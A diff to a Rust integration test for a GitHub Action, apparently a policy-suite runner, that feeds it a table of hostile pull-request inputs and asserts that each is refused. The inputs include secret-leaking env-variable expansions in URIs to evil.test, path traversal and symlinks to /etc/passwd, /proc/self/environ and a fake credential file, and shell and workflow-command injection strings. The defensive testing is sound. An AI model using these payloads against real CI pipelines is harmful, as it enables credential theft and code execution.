@@ -559,61 +559,162 @@ fn files_of_a_pull_request_are_named_without_running_its_git() {
     assert!(planted.stdout.is_empty(), "{planted:?}");
 }
 
-/// A repository of a stranger: what it tries at once, through the whole action.
+/// A thing that a stranger tries: the suite, a link in the folder of the suite and what it leads to, and what the run says.
+struct Trick {
+    suite: String,
+    link: Option<(&'static str, &'static str)>,
+    says: &'static str,
+    code: i32,
+}
+
+/// A suite with one case and these keys of its policy and of the case, beside those that it needs.
+fn trick(policy: &str, case: &str, says: &'static str) -> Trick {
+    let usual = [("name:", "name: a"), ("expect:", "expect: allow")];
+    let mut keys: Vec<String> = vec![case.to_owned()];
+    keys.extend(usual.iter().filter(|(key, _)| !case.contains(key)).map(|(_, text)| (*text).to_owned()));
+    if !["object", "request:", "raw:"].iter().any(|key| case.contains(key)) {
+        keys.push(format!("object: {POD}"));
+    }
+    let keys: Vec<&str> = keys.iter().map(String::as_str).filter(|key| !key.is_empty()).collect();
+    let case = keys.join(", ");
+    let suite = format!("version: 1\nname: s\npolicies: {{ yes: {{ {policy} }} }}\ncases:\n  - {{ {case} }}\n");
+    Trick { suite, link: None, says, code: 1 }
+}
+
+fn with_link(trick: Trick, link: &'static str, target: &'static str) -> Trick {
+    Trick { link: Some((link, target)), ..trick }
+}
+
+/// What a pull request can bring. `OUT` is a folder outside, with a file `config.json` that nobody may see.
+fn tricks() -> Vec<Trick> {
+    const YES: &str = "uri: yes.wasm";
+    const NOT_ALLOWED: &str = "is not allowed";
+    const OUTSIDE: &str = "outside the repository";
+    let variables = [
+        ("name: 'a ${env:GITHUB_TOKEN}'", NOT_ALLOWED),
+        ("name: 'a ${env:OTHER}'", NOT_ALLOWED),
+        ("name: 'a ${env:OTHER:-x}'", NOT_ALLOWED),
+        ("name: 'a ${env:TAG}'", "the pull request of the fork `evil/p`"),
+        ("tags: ['${env:OTHER}']", NOT_ALLOWED),
+        ("settings: { '${env:OTHER}': 1 }", NOT_ALLOWED),
+        ("expect: { deny: '${env:OTHER}' }", NOT_ALLOWED),
+        ("each: [{ v: '${env:OTHER}' }], name: 'a ${v}'", NOT_ALLOWED),
+    ];
+    let mut tricks: Vec<Trick> = variables.map(|(case, says)| trick(YES, case, says)).into();
+    for uri in [
+        "uri: 'https://${env:OTHER}.evil.test/p.wasm'",
+        "uri: 'https://evil.test/${env:OTHER}/p.wasm'",
+        "uri: 'registry://evil.test/${env:OTHER}:v1'",
+        "uri: 'registry://evil.test/p:${env:OTHER}'",
+    ] {
+        tricks.push(trick(uri, "", NOT_ALLOWED));
+    }
+    for policy in [
+        "uri: ../../../../etc/passwd",
+        "uri: /etc/passwd",
+        "uri: file:///etc/passwd",
+        "uri: away/config.json",
+        "uri: yes.wasm, metadata: away/config.json",
+        "uri: yes.wasm, metadata: ../metadata.yml, usage: away/config.json",
+        "uri: yes.wasm, settings: away/config.json",
+        "uri: yes.wasm, signedBy: away/config.json",
+        "manifest: away/config.json",
+    ] {
+        tricks.push(with_link(trick(policy, "", ""), "away", "OUT"));
+    }
+    for case in [
+        "object: away/config.json",
+        "object: ../../../../../../proc/self/environ",
+        "objects: 'away/*.json'",
+        "objects: '**/*.json'",
+        "request: away/config.json",
+        "raw: away/config.json",
+        "replay: away/config.json",
+        "cluster: [away/config.json]",
+        "cluster: ['away/*.json']",
+        "settings: away/config.json",
+        "expect: { response: away/config.json }",
+    ] {
+        tricks.push(with_link(trick(YES, case, ""), "away", "OUT"));
+    }
+    for (link, target) in [
+        ("out", "OUT"),
+        ("out/report.xml", "OUT/config.json"),
+        ("out/report.xml", "OUT/new"),
+        ("suite.yml", "OUT/config.json"),
+        ("suite.yml", "/proc/self/environ"),
+        ("suite.yml", "/dev/zero"),
+    ] {
+        tricks.push(with_link(trick(YES, "", OUTSIDE), link, target));
+    }
+    let lock = trick("uri: 'registry://evil.test/p:v1'", "", OUTSIDE);
+    tricks.push(with_link(lock, "suite.lock", "OUT/config.json"));
+    // Green, and no command of the runner.
+    for name in
+        ["::error::pwned", "##[error]pwned", "x\\n::add-mask::a", "$(touch pwned)", "`touch pwned`", "'; touch pwned #"]
+    {
+        let case = format!("name: {}", serde_json::Value::from(name.replace("\\n", "\n")));
+        tricks.push(Trick { code: 0, ..trick(YES, &case, "") });
+    }
+    tricks
+}
+
+/// A repository of a stranger, through the whole action: nothing is read, written, sent or run.
 #[test]
 fn a_hostile_repository_gets_nothing() {
+    if Act::new().is_none() {
+        return;
+    }
+    let tricks = tricks();
+    assert!(tricks.len() >= 30, "{}", tricks.len());
+    // Most of the time of `act` is waiting.
+    std::thread::scope(|scope| {
+        for some in tricks.chunks(tricks.len().div_ceil(6)) {
+            scope.spawn(|| try_all(some));
+        }
+    });
+}
+
+fn try_all(tricks: &[Trick]) {
     use std::os::unix::fs::symlink;
 
-    let Some(act) = Act::new() else { return };
+    let act = Act::new().unwrap();
     let outside = tempfile::tempdir().unwrap();
-    let keys = outside.path().join("authorized_keys");
-    std::fs::write(&keys, "kept").unwrap();
+    let config = outside.path().join("config.json");
+    std::fs::write(&config, r#"{"auths":{"ghcr.io":{"auth":"aG9zdC1zZWNyZXQ="}}}"#).unwrap();
     let workflow = workflow(
         "          working-directory: policies/foo\n          suite: suite.yml\n          allow-env: TAG\n          \
          reports: |\n            junit=out/report.xml",
     );
     let workflow = workflow.replace("    runs-on", "    env: { TAG: job-secret, OTHER: job-secret }\n    runs-on");
-    let suite = |name: &str, uri: &str| {
-        format!(
-            "version: 1\nname: s\npolicies: {{ yes: {{ uri: '{uri}' }} }}\ncases:\n  - {{ name: 'a {name}', object: {POD}, expect: allow }}\n"
-        )
-    };
     let event = json!({
         "repository": { "full_name": "acme/p" },
         "pull_request": { "number": 7, "head": { "repo": { "full_name": "evil/p" } } },
     });
-    for (name, uri, link, says) in [
-        ("${env:GITHUB_TOKEN}", "yes.wasm", None, "the environment variable `GITHUB_TOKEN` is not allowed"),
-        ("${env:OTHER}", "yes.wasm", None, "the environment variable `OTHER` is not allowed"),
-        ("${env:OTHER:-x}", "yes.wasm", None, "the environment variable `OTHER` is not allowed"),
-        ("${env:TAG}", "yes.wasm", None, "the pull request of the fork `evil/p`"),
-        ("x", "https://${env:GH_TOKEN}.evil.test/p.wasm", None, "the environment variable `GH_TOKEN` is not allowed"),
-        ("x", "../../../../etc/passwd", None, "outside the repository"),
-        ("x", "yes.wasm", Some("out"), "outside the repository"),
-        ("x", "yes.wasm", Some("out/report.xml"), "outside the repository"),
-    ] {
-        let repository = Repository::new().write("policies/foo/suite.yml", suite(name, uri));
+    for Trick { suite, link, says, code } in tricks {
+        let repository = Repository::new().write("policies/foo/suite.yml", suite);
         let repository = repository.replying("policies/foo/yes", r#"{"valid":true,"accepted":true}"#);
         let repository = repository.write(".github/workflows/verify.yml", &workflow);
-        let repository = planted_repository(repository, "policies/foo");
-        if let Some(link) = link {
+        let repository = planted_repository(repository, "policies/foo").write("policies/metadata.yml", "rules: []\n");
+        if let Some((link, target)) = link {
             let path = repository.path("policies/foo").join(link);
             std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-            let target = if link.ends_with("xml") { keys.clone() } else { outside.path().to_owned() };
-            symlink(target, path).unwrap();
+            let _ = std::fs::remove_file(&path);
+            symlink(target.replace("OUT", outside.path().to_str().unwrap()), path).unwrap();
         }
-        let log = act.run(&repository, "pull_request", &event);
-        let Log(finished) = log;
-        let finished = finished.never_says("job-secret").never_says("secret-token").never_says("root:x:");
-        let plain = finished.stdout.replace(['\n', '|'], " ");
-        let words: Vec<&str> = plain.split_whitespace().collect();
-        let wanted: Vec<&str> = says.split_whitespace().collect();
-        let has = wanted.iter().all(|word| words.contains(word));
-        assert!(has, "{says}\n{finished}");
-        finished.exits_with(1);
+        let Log(finished) = act.run(&repository, "pull_request", &event);
+        let finished = finished.named(&format!("{suite}{link:?}"));
+        let mut finished = finished.never_says("root:x:").never_says("HOME=");
+        for secret in ["job-secret", "secret-token", "aG9zdC1zZWNyZXQ"] {
+            finished = finished.never_says(secret);
+        }
+        let text = finished.stdout.lines().filter_map(|line| line.split_once("] ")).map(|(_, line)| line);
+        let text = text.map(|line| line.trim_start().trim_start_matches('|').trim()).collect::<Vec<_>>().join(" ");
+        assert!(text.contains(says), "{says}\n{finished}");
+        finished.exits_with(*code);
         let planted = repository.shell("find . -name 'pwned*'").run();
         assert_eq!(planted.stdout, "");
+        let kept = std::fs::read_to_string(&config).unwrap();
+        assert!(kept.contains("aG9zdC1zZWNyZXQ=") && std::fs::read_dir(outside.path()).unwrap().count() == 1);
     }
-    assert_eq!(std::fs::read_to_string(&keys).unwrap(), "kept");
-    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
 }
